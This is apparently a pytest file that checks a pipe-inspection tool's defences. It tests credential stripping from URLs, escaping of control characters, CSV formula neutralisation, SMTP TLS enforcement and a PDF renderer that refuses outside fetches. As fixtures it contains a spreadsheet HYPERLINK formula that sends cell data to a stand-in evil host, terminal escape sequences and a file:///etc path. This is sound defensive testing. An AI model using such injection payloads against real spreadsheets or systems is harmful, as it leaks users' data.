"""Secrets stay out of records, and nothing a report renders can reach a local file or the
network: archive URLs lose their credentials before they are stored, printed or rendered; SMTP
sends a password only over TLS unless told otherwise, and never shows it; CSV cells cannot
become spreadsheet formulas."""

from __future__ import annotations

import base64
import dataclasses
import io
import math
from datetime import UTC, datetime
from pathlib import Path

import pytest
import sqlalchemy as sa

from pipescan.core.errors import ArchiveError, PipescanError
from pipescan.core.model import InspectionMeta, SectionMeasures, SectionStatus
from pipescan.core.sanitize import escape_control, strip_credentials
from pipescan.exports import tables
from pipescan.storage.database import repository
from pipescan.storage.database.db import connect
from pipescan.storage.input.archive import open_archive
from pipescan.tasks.delivery import DeliveryError, SmtpConfig, send_report_email

SECRET = "wJalrXUtnFEMI-K7MDENG"
CREDENTIAL_URLS = [
    (f"s3://AKIAIOSFODNN7:{SECRET}@bucket/runs/site7.zip", "s3://bucket/runs/site7.zip"),
    (f"ftp://crew:{SECRET}@ftp.utility.example/a.tar.gz", "ftp://ftp.utility.example/a.tar.gz"),
    (
        f"https://b.s3.amazonaws.com/x.zip?versionId=3&X-Amz-Credential=AKIA%2F1&X-Amz-Signature={SECRET}",
        "https://b.s3.amazonaws.com/x.zip?versionId=3&X-Amz-Credential=REDACTED"
        "&X-Amz-Signature=REDACTED",
    ),
    (f"az://c/x.zip?sv=2022&sig={SECRET}", "az://c/x.zip?sv=2022&sig=REDACTED"),
    (f"simplecache::s3://K:{SECRET}@bucket/x.zip", "simplecache::s3://bucket/x.zip"),
    ("/data/scans/site7.zip", "/data/scans/site7.zip"),
    ("memory://runs/a.zip", "memory://runs/a.zip"),
]


@pytest.mark.parametrize(("url", "clean"), CREDENTIAL_URLS)
def test_strip_credentials(url: str, clean: str) -> None:
    assert strip_credentials(url) == clean
    assert SECRET not in strip_credentials(url)


def test_archive_errors_carry_no_credentials() -> None:
    url = f"memory://AKIA:{SECRET}@pipescan-nowhere/run.zip"
    with pytest.raises(ArchiveError) as info:
        open_archive(url)
    assert SECRET not in str(info.value)
    # Also when a backend's own message quotes the URL.
    err = PipescanError(f"cannot copy {url}: Access Denied", archive=url)
    assert SECRET not in str(err) and "pipescan-nowhere" in str(err)


def test_errors_escape_control_characters() -> None:
    err = ArchiveError("bad member", archive="a.zip", file="frames/\x1b]0;owned\x07.npy")
    assert "\x1b" not in str(err) and "\\x1b" in str(err)
    assert escape_control("MH1\r\nMH2\u202e") == "MH1\\r\\nMH2\\u202e"


SECTION = SectionMeasures(
    chainage_start_m=1.0,
    chainage_end_m=1.1,
    nominal_area_m2=math.pi * 0.25**2,
    status=SectionStatus.OK,
    point_count=1000,
    coverage_ratio=1.0,
    open_area_m2=math.pi * 0.25**2 * 1.02,
    blockage_ratio=-0.02,  # the pipe is 2 % larger than nominal: a negative blockage
    ovality_ratio=0.01,
    deformation_ratio=0.0,
    deposit_height_ratio=0.0,
    grade=4,
)


def _save(engine: sa.Engine, asset_id: str, archive_uri: str) -> int:
    return repository.save_inspection(
        engine,
        repository.InspectionToSave(
            meta=InspectionMeta(
                asset_id=asset_id,
                inspected_at=datetime(2025, 3, 14, tzinfo=UTC),
                nominal_diameter_m=0.5,
            ),
            archive_uri=archive_uri,
            content_hash="h1",
            params={"step_m": 0.1},
            software_version="0.1.0",
            sections=[SECTION],
            defects=[],
        ),
    )


@pytest.fixture
def sqlite_engine(sqlite_url: str):
    engine = connect(sqlite_url)
    yield engine
    engine.dispose()


def test_the_database_never_stores_credentials(sqlite_engine) -> None:
    inspection_id = _save(sqlite_engine, "MH1-MH2", CREDENTIAL_URLS[0][0])
    stored = repository.get_inspection(sqlite_engine, inspection_id).archive_uri
    assert stored == CREDENTIAL_URLS[0][1]
    with sqlite_engine.connect() as conn:
        dump = "\n".join(conn.connection.driver_connection.iterdump())
    assert SECRET not in dump


def test_pipescan_inspections_prints_no_credentials(sqlite_url, sqlite_engine) -> None:
    """Rows written before credentials were stripped still print without them."""
    from typer.testing import CliRunner

    from pipescan.cli import app

    inspection_id = _save(sqlite_engine, "MH1\x1b[2J", "/scans/a.zip")
    with sqlite_engine.begin() as conn:
        conn.execute(
            sa.text("UPDATE inspections SET archive_uri = :u WHERE id = :i"),
            {"u": CREDENTIAL_URLS[1][0], "i": inspection_id},
        )
    result = CliRunner().invoke(app, ["inspections", "--db", sqlite_url])
    assert result.exit_code == 0, result.output
    assert SECRET not in result.output and "ftp://ftp.utility.example/a.tar.gz" in result.output
    assert "\x1b" not in result.output


def test_the_report_renders_no_credentials() -> None:
    from pipescan.reports.render import render_html
    from pipescan.reports.sample import sample_input

    inp = dataclasses.replace(sample_input(), archive_uri=CREDENTIAL_URLS[0][0])
    html = render_html(inp)
    assert SECRET not in html and "s3://bucket/runs/site7.zip" in html


# --- CSV: no formulas ---------------------------------------------------------------------------


def test_csv_text_cells_cannot_be_formulas(sqlite_engine) -> None:
    asset = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    _save(sqlite_engine, asset, "/scans/a.zip")
    out = io.StringIO()
    tables.export_sections_csv(sqlite_engine, out)
    import csv

    header, row = list(csv.reader(io.StringIO(out.getvalue())))
    cells = dict(zip(header, row, strict=True))
    assert cells["asset_id"] == "'" + asset  # shown as text, never run
    assert cells["blockage_ratio"] == "-0.02"  # a figure stays a number
    for cell in row:
        assert not cell.startswith(("=", "+", "@")), cell


@pytest.mark.parametrize(
    ("text", "cell"),
    [("=1+1", "'=1+1"), ("+49 30", "'+49 30"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"),
     ("\t=1", "'\t=1"), ("MH1-MH2", "MH1-MH2"), ("", "")],
)  # fmt: skip
def test_text_cell(text: str, cell: str) -> None:
    assert tables.text_cell(text) == cell


# --- SMTP ---------------------------------------------------------------------------------------


def test_smtp_repr_has_no_password() -> None:
    config = SmtpConfig(host="smtp.example", username="ops", password=SECRET, security="ssl")
    assert SECRET not in repr(config) and SECRET not in str(config)


def test_smtp_refuses_a_plaintext_login(tmp_path: Path) -> None:
    pdf = tmp_path / "r.pdf"
    pdf.write_bytes(b"%PDF-1.7\n%%EOF\n")
    # Port 9 (discard): the refusal comes before any connection is attempted.
    config = SmtpConfig(host="127.0.0.1", port=9, username="ops", password=SECRET)
    with pytest.raises(DeliveryError, match="without TLS") as info:
        send_report_email(pdf, ["a@b.example"], config, subject="s", body="b")
    assert "PIPESCAN_SMTP_ALLOW_PLAINTEXT_LOGIN" in str(info.value)
    assert SECRET not in str(info.value)


def test_smtp_plaintext_login_when_explicitly_allowed(tmp_path: Path) -> None:
    controller_mod = pytest.importorskip("aiosmtpd.controller")
    from aiosmtpd.smtp import AuthResult

    logins: list[tuple[bytes, bytes]] = []

    def authenticator(server, session, envelope, mechanism, auth_data):
        logins.append((auth_data.login, auth_data.password))
        return AuthResult(success=True)

    class Handler:
        async def handle_DATA(self, server, session, envelope):
            return "250 OK"

    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    controller = controller_mod.Controller(
        Handler(),
        hostname="127.0.0.1",
        port=port,
        authenticator=authenticator,
        auth_require_tls=False,
    )
    controller.start()
    try:
        pdf = tmp_path / "r.pdf"
        pdf.write_bytes(b"%PDF-1.7\n%%EOF\n")
        config = SmtpConfig(
            host="127.0.0.1", port=port, username="ops", password=SECRET, allow_plaintext_login=True
        )
        send_report_email(pdf, ["a@b.example"], config, subject="s", body="b")
    finally:
        controller.stop()
    assert logins == [(b"ops", SECRET.encode())]


# --- the PDF renderer loads nothing from outside ------------------------------------------------

_PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
)


def test_the_pdf_renderer_loads_only_data_urls_and_its_assets(tmp_path: Path) -> None:
    from pypdf import PdfReader

    from pipescan.reports import render

    outside = tmp_path / "private.png"
    outside.write_bytes(_PNG)
    data_uri = "data:image/png;base64," + base64.b64encode(_PNG).decode()
    html = (
        f'<html><body><img src="{outside.as_uri()}"><img src="http://127.0.0.1:9/x.png">'
        f'<img src="ftp://127.0.0.1:9/x.png"><img src="{data_uri}"></body></html>'
    )
    pdf = render._write_pdf(html, tmp_path / "out.pdf")
    images = [img for page in PdfReader(pdf).pages for img in page.images]
    assert len(images) == 1  # the data: URL only; the file, http and ftp ones were refused
    fetcher = render._url_fetcher()
    for url in (outside.as_uri(), "file:///etc/hostname", "http://127.0.0.1:9/", "ftp://h/x"):
        with pytest.raises(ValueError):
            fetcher.fetch(url)
    fetcher.fetch((render.ASSETS_DIR / "report.css").as_uri()).close()
